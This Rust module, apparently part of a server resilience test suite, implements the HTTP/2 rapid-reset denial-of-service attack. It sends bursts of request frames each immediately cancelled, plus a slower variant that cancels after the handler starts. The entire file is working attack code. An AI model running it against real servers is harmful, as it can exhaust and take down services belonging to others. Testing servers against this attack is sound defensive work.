//! Requests that are taken back (G-02): both frames at once, and the patient form, in which the handler runs by then.

use std::time::Duration;

use futures::StreamExt;
use futures::stream::FuturesUnordered;
use http::Request;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout_at};

use super::wire::{Client, END_HEADERS, END_STREAM, frame, header_block, hello, kind, message};

/// Requests of one burst of the form that takes back at once.
const BURST: u32 = 2_000;
/// Requests that a patient attacker has open at the same time.
const AT_ONCE: usize = 32;

/// Asks and takes back in the same breath, until the connection ends or the time is over; how often.
pub async fn at_once(mut socket: TcpStream, path: &str, end: Instant) -> u64 {
    let block = header_block(path);
    let (mut number, mut bytes) = (0_u32, hello());
    loop {
        for _ in 0..BURST {
            bytes.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block));
            bytes.extend(frame(kind::RST_STREAM, 0, 2 * number + 1, &[0, 0, 0, 8]));
            number += 1;
        }
        let said = timeout_at(end, socket.write_all(&bytes)).await;
        if !matches!(said, Ok(Ok(()))) {
            return number.into();
        }
        bytes.clear();
    }
}

/// Asks, waits until the handler is at work, and takes back, many times at once, until the connection ends or the time is
/// over; how often.
pub async fn patiently(socket: TcpStream, request: impl Fn() -> (Request<()>, Vec<u8>), end: Instant) -> u64 {
    let Some(client) = Client::over(socket).await else {
        return 0;
    };
    let (mut asked, mut open) = (0, FuturesUnordered::new());
    while !client.is_over() && Instant::now() < end {
        while open.len() < AT_ONCE {
            let (head, body) = request();
            open.push(take_back(&client, head, body, Duration::from_millis(2)));
        }
        let Some(Some(())) = open.next().await else {
            break;
        };
        asked += 1;
    }
    asked
}

/// None where the connection takes nothing more.
async fn take_back(client: &Client, head: Request<()>, body: Vec<u8>, after: Duration) -> Option<()> {
    let mut requests = client.requests.clone().ready().await.ok()?;
    let (response, mut stream) = requests.send_request(head, false).ok()?;
    let _ = stream.send_data(message(&body), true);
    sleep(after).await;
    stream.send_reset(h2::Reason::CANCEL);
    drop(response);
    Some(())
}
